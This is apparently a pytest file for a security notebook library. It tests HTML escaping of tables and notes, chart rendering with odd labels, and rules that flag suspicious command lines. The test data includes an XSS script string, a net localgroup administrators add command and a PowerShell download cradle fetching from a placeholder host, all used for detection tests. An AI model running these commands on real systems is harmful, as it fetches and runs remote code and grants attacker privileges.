"""What an analyst sees: escaped tables and notes, and charts drawn from hostile labels."""

import pandas as pd

from nbcatalog.nblib import plots
from nbcatalog.nblib.findings import Finding, Note, summarize
from nbcatalog.nblib.processes import suspicious_reasons
from nbcatalog.nblib.tables import html_table

SCRIPT = '<script>alert("nbcatalog")</script>'


def test_table_escapes_values_and_column_names():
    frame = pd.DataFrame({"CommandLine": [SCRIPT], "<b>col</b>": ["x & y"]})
    out = html_table(frame)
    assert "<script>" not in out and "<b>col" not in out
    assert "&lt;script&gt;alert(&quot;nbcatalog&quot;)&lt;/script&gt;" in out
    assert "x &amp; y" in out


def test_table_formats_missing_values_times_and_truncates_rows():
    frame = pd.DataFrame(
        {
            "t": pd.to_datetime(["2024-05-01 10:00:00"] * 60, utc=True),
            "n": [None] * 60,
            "ips": [["10.0.0.1", "10.0.0.2"]] * 60,
        }
    )
    out = html_table(frame, max_rows=5)
    assert out.count("<tr>") == 6
    assert "2024-05-01 10:00:00" in out and "None" not in out and "nan" not in out
    assert "10.0.0.1, 10.0.0.2" in out
    assert "first 5 of 60 rows" in out


def test_finding_renders_notes_escaped():
    finding = Finding("Alerts <on> host")
    finding.note("missing", "no <SecurityAlert> table")
    html = finding._repr_html_()
    assert "&lt;SecurityAlert&gt;" in html and "Alerts &lt;on&gt; host" in html
    assert "Missing data" in html
    assert finding.missing and finding.empty
    assert "&lt;x&gt;" in Note("info", "<x>")._repr_html_()


def test_summarize_counts_and_reasons():
    found = Finding("a", pd.DataFrame({"x": [1, 2, 3]}))
    missing = Finding("b")
    missing.note("missing", "no Syslog table")
    table = summarize({"Alerts": found, "Linux logons": missing})
    assert table.values.tolist() == [["Alerts", 3, ""], ["Linux logons", 0, "no Syslog table"]]


def test_timeline_is_a_png_even_with_mathtext_and_markup_in_labels():
    frame = pd.DataFrame(
        {
            "TimeGenerated": pd.to_datetime(["2024-05-01", "2024-05-02", "2024-05-03"], utc=True),
            "AlertDisplayName": ["cost $5 and $\\frac{", SCRIPT, "x" * 200],
        }
    )
    image = plots.timeline(frame, group="AlertDisplayName", title="Alerts $x$")
    assert image.data[:8] == b"\x89PNG\r\n\x1a\n"
    assert 1000 < len(image.data) < 300_000


def test_timeline_with_glyphs_the_font_lacks_warns_nothing(recwarn):
    frame = pd.DataFrame(
        {
            "TimeGenerated": pd.to_datetime(["2024-05-01"], utc=True),
            "AlertDisplayName": ["攻撃 \U0001f6a8 \x00\x07 line\nbreak"],
        }
    )
    image = plots.timeline(frame, group="AlertDisplayName")
    assert image.data[:4] == b"\x89PNG"
    assert [str(w.message) for w in recwarn] == []


def test_timeline_and_bar_say_why_nothing_is_drawn():
    assert isinstance(plots.timeline(pd.DataFrame(), title="Alerts"), Note)
    assert isinstance(plots.bar(pd.Series(dtype=int), title="Events"), Note)
    bar = plots.bar(pd.Series({"Windows logons": 3, "Linux logons": 1}), title="Events")
    assert bar.data[:4] == b"\x89PNG"


def test_suspicious_command_line_rules():
    assert suspicious_reasons(f"cmd.exe /c echo {SCRIPT}") == [
        "HTML or script markup in a command line"
    ]
    assert "account added or changed" in suspicious_reasons(
        "net localgroup administrators svc_backup /add"
    )
    assert "download cradle" in suspicious_reasons(
        "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://x/p.ps1')"
    )
    assert suspicious_reasons("C:\\Windows\\System32\\svchost.exe -k netsvcs") == []
    assert suspicious_reasons(None) == []
